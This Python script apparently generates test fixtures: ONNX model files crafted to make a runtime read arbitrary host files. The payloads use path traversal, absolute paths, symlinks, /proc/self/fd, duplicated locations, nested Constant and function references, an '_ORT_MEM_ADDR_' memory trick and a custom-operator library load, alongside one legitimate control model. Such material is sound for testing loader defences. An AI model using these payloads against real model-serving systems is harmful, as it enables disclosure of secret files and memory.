"""ONNX files whose data would be files of the machine: `python onnx_files.py FOLDER`."""

from __future__ import annotations

import sys
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import numpy as np
from onnx import TensorProto, helper
from places import Place, make_all


def outside(name: str, *locations: str, offset: int = 0) -> TensorProto:
    """A tensor of 64 numbers that lies elsewhere."""
    tensor = TensorProto(name=name, data_type=TensorProto.FLOAT, dims=[64], data_location=TensorProto.EXTERNAL)
    for location in locations:
        tensor.external_data.add(key="location", value=location)
    tensor.external_data.add(key="offset", value=str(offset))
    tensor.external_data.add(key="length", value="256")
    return tensor


def model(nodes: Sequence[Any], tensors: Sequence[Any] = (), functions: Sequence[Any] = ()) -> Any:
    """A model of one input x and one output y, both of 64 numbers a row."""
    value = [helper.make_tensor_value_info(name, TensorProto.FLOAT, ["n", 64]) for name in ("x", "y")]
    graph = helper.make_graph(list(nodes), "g", value[:1], value[1:], list(tensors))
    opsets = [helper.make_opsetid("", 17), helper.make_opsetid("own", 1)]
    return helper.make_model(graph, opset_imports=opsets, functions=list(functions), ir_version=9)


def write(place: Place, made: Any) -> None:
    """The model's file."""
    (place.model / "model.onnx").write_bytes(made.SerializeToString())


def added(tensor: TensorProto) -> Any:
    """The input plus a tensor."""
    return model([helper.make_node("Add", ["x", tensor.name], ["y"])], [tensor])


def above(place: Place) -> None:
    """Data two folders up."""
    write(place, added(outside("w", "../../secret")))


def absolute(place: Place) -> None:
    """Data at an absolute path."""
    write(place, added(outside("w", place.secret)))


def linked(place: Place) -> None:
    """Data in the folder, by a link out of it."""
    (place.model / "w.bin").symlink_to(place.secret)
    write(place, added(outside("w", "w.bin")))


def linked_folder(place: Place) -> None:
    """Data in a folder of the folder, which is a link out of it."""
    (place.model / "data").symlink_to(place.folder.parent)
    write(place, added(outside("w", "data/secret")))


def open_descriptor(place: Place) -> None:
    """Data of whatever file the process has open, by a link to the list of them."""
    (place.model / "data").symlink_to("/proc/self/fd")
    write(place, added(outside("w", "data/0")))


def said_twice(place: Place) -> None:
    """Two places, of which one reader takes the first and another the last."""
    (place.model / "w.bin").write_bytes(np.zeros(64, np.float32).tobytes())
    write(place, added(outside("w", place.secret, "w.bin")))


def in_an_attribute(place: Place) -> None:
    """Data of a Constant's attribute."""
    constant = helper.make_node("Constant", [], ["w"], value=outside("w", "../../secret"))
    write(place, model([constant, helper.make_node("Add", ["x", "w"], ["y"])]))


def in_a_function(place: Place) -> None:
    """Data in the body of a function of the model's own."""
    body = [
        helper.make_node("Constant", [], ["w"], value=outside("w", "../../secret")),
        helper.make_node("Add", ["a", "w"], ["b"]),
    ]
    function = helper.make_function("own", "Plus", ["a"], ["b"], body, [helper.make_opsetid("", 17)])
    write(place, model([helper.make_node("Plus", ["x"], ["y"], domain="own")], functions=[function]))


def own_memory(place: Place) -> None:
    """The runtime's own memory, at an address."""
    path = place.model / "*"
    path.mkdir()
    (path / "_ORT_MEM_ADDR_").mkdir()
    (path / "_ORT_MEM_ADDR_" / "*").write_bytes(bytes(1 << 16))
    write(place, added(outside("w", "*/_ORT_MEM_ADDR_/*", offset=4096)))


def own_operator(place: Place) -> None:
    """An operator of somebody's own, whose library a runtime would have to load."""
    write(place, model([helper.make_node("Somebodys", ["x"], ["y"], domain="own")]))


ATTACKS = {
    one.__name__: one
    for one in (
        above,
        absolute,
        linked,
        linked_folder,
        open_descriptor,
        said_twice,
        in_an_attribute,
        in_a_function,
        own_memory,
        own_operator,
    )
}

if __name__ == "__main__":
    make_all(ATTACKS, Path(sys.argv[1]))
    (Path(sys.argv[1]) / "w.bin").write_bytes(np.ones(64, np.float32).tobytes())
    (Path(sys.argv[1]) / "legitimate.onnx").write_bytes(added(outside("w", "w.bin")).SerializeToString())
